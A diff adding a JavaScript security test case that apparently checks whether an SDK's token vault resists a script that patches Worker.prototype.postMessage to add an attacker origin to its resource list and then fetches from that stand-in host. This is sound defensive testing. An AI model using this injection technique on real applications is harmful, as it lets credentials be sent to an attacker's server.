@@ -1,0 +1,20 @@
+// A real attacker: runs before the SDK and changes the configuration on its way to the worker, so that the attacker's
+// server is on the list of resources.
+export default {
+  row: "patch-before",
+  expected: ["wins", "loses"],
+  before: ({ evil, api }) => {
+    const { postMessage } = Worker.prototype;
+    Worker.prototype.postMessage = function (message, ...rest) {
+      if (message?.resources) {
+        const mine = { origin: evil, audience: `${api}/es256`, scope: "read" };
+        message = { ...message, resources: [...message.resources, mine] };
+      }
+      return postMessage.call(this, message, ...rest);
+    };
+  },
+  after: async ({ evil }) => {
+    const response = await globalThis.app.vault.fetch(`${evil}/v1/me`);
+    return response.status;
+  },
+};
